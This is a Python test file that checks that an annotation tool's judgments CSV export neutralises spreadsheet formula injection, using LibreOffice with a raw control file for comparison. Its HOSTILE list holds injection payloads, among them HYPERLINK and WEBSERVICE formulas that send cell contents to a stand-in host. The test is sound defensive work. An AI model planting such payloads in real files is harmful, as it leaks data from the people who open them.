"""A judgments CSV export opened in a real spreadsheet runs no formula (issue #35, item 4).

LibreOffice opens the file headless with formula evaluation turned on (the CSV filter's 13th
option) and writes it as flat ODF, where a formula cell carries ``table:formula``. The same
cells written raw, without ``cell_safe``, are the control: LibreOffice does make a formula of
them, so the check can fail.
"""

import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from annotation.exports import judgments_export
from tests.annotation.test_exports import _campaign_with

SOFFICE = shutil.which("soffice")
# Comma, double quote, UTF-8, from line 1, no column formats, default language, quoted
# fields not forced to text, special numbers detected, …, all sheets, evaluate formulas.
CSV_EVALUATING = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
HOSTILE = [
    '=HYPERLINK("http://example.org/?leak="&A2, "click")',
    '=WEBSERVICE("http://example.org/?leak="&A2)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]

pytestmark = [pytest.mark.django_db, pytest.mark.libreoffice]


def _formulas(csvs: list[Path], tmp_path: Path) -> dict[str, int]:
    """Open each CSV in LibreOffice, evaluating formulas; return its count of formula cells."""
    out = tmp_path / "ods"
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            f"--infilter={CSV_EVALUATING}",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, csvs),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return {p.stem: (out / f"{p.stem}.fods").read_text().count("table:formula=") for p in csvs}


def test_a_judgments_csv_opened_in_libreoffice_has_no_formula(tmp_path) -> None:
    campaign = _campaign_with(HOSTILE)
    exported = tmp_path / "exported.csv"
    assert judgments_export(campaign, exported, "csv") == len(HOSTILE)
    raw = tmp_path / "raw.csv"
    pd.DataFrame({"value": HOSTILE}).to_csv(raw, index=False)
    formulas = _formulas([exported, raw], tmp_path)
    assert formulas["raw"] > 0  # the control: unneutralised, LibreOffice runs them
    assert formulas["exported"] == 0
